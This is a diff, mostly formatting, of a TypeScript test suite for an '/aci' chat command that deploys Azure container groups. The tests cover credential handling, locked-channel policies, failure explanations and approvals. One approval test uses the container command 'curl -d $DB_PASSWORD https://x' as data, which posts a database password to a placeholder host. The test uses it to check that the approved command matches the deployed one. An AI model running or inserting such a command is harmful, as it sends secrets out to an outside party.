@@ -55,7 +55,9 @@ describe('/aci create without approval', () => {
     expect(body.properties.restartPolicy).toBe('OnFailure');
     expect(body.properties.ipAddress).toMatchObject({ type: 'Public', dnsNameLabel: 'contoso-web' });
     expect(body.properties.ipAddress.ports.map((p: { port: number }) => p.port)).toEqual([80, 443]);
-    expect(body.properties.imageRegistryCredentials).toEqual([{ server: loginServers.contosostg, username: '00000000-aaaa-4bbb-8ccc-000000000001', password: aci.pullPassword }]);
+    expect(body.properties.imageRegistryCredentials).toEqual([
+      { server: loginServers.contosostg, username: '00000000-aaaa-4bbb-8ccc-000000000001', password: aci.pullPassword },
+    ]);
 
     // The secret went to Azure in the PUT and nowhere else.
     const elsewhere = await everythingButAzure(h);
@@ -75,7 +77,10 @@ describe('/aci create without approval', () => {
     const locked = { userId: ids.bob, channelId: aci.lockedChannel };
     const publicIp = await h.command('create -n web --image web:v1 --ip-address Public', { command: '/aci', ...locked });
     expect(replyOf(publicIp).text).toContain('locked does not allow container groups with a public IP address');
-    const foreign = await h.command('create -n web --image docker.io/library/nginx:1.27 --ip-address Private --subnet /subscriptions/33333333-3333-4333-8333-333333333333/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet/subnets/aci', { command: '/aci', ...locked });
+    const foreign = await h.command(
+      'create -n web --image docker.io/library/nginx:1.27 --ip-address Private --subnet /subscriptions/33333333-3333-4333-8333-333333333333/resourceGroups/rg-net/providers/Microsoft.Network/virtualNetworks/vnet/subnets/aci',
+      { command: '/aci', ...locked },
+    );
     expect(replyOf(foreign).text).toContain('locked only runs images from');
 
     await new Promise((r) => setTimeout(r, 500));
@@ -108,7 +113,10 @@ describe('/aci create without approval', () => {
 
   it('explains a failed deployment (image pull) with next steps', async () => {
     h = await startAciHarness();
-    h.azure.aci.failNextDeployment('web', { code: 'InaccessibleImage', message: 'The image is not accessible. Please check the image and registry credential.' });
+    h.azure.aci.failNextDeployment('web', {
+      code: 'InaccessibleImage',
+      message: 'The image is not accessible. Please check the image and registry credential.',
+    });
     const jobId = await aciCommand(h, 'create -n web --image web:v1', stg);
     await waitForCard(h, aci.stgChannel, jobId, 'Failed');
     const card = cardOf(h, aci.stgChannel, jobId)!;
@@ -182,7 +190,8 @@ describe('/aci create with approval', () => {
     // The command the approver saw is the command that is deployed.
     await h.click('approval.approve', jobId, { userId: ids.carol, messageTs: cardOf(h, aci.prdChannel, jobId)!.ts, channelId: aci.prdChannel });
     await waitForCard(h, aci.prdChannel, jobId, 'Succeeded');
-    const sent = (putsOf(h, 'api')[0]!.body as { properties: { containers: { properties: { command: string[] } }[] } }).properties.containers[0]!.properties.command;
+    const sent = (putsOf(h, 'api')[0]!.body as { properties: { containers: { properties: { command: string[] } }[] } }).properties.containers[0]!.properties
+      .command;
     expect(sent).toEqual(['sh', '-c', 'curl -d $DB_PASSWORD https://x']);
   });
 
